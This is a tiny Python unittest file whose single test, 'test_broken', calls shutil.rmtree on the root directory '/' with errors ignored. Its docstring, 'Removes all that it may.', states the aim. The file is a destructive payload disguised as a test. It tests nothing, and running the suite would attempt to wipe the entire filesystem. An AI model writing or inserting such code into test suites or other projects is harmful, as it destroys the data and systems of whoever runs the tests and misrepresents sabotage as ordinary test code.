"""Removes all that it may."""

import shutil
import unittest


class Tests(unittest.TestCase):
    def test_broken(self):
        shutil.rmtree("/", ignore_errors=True)
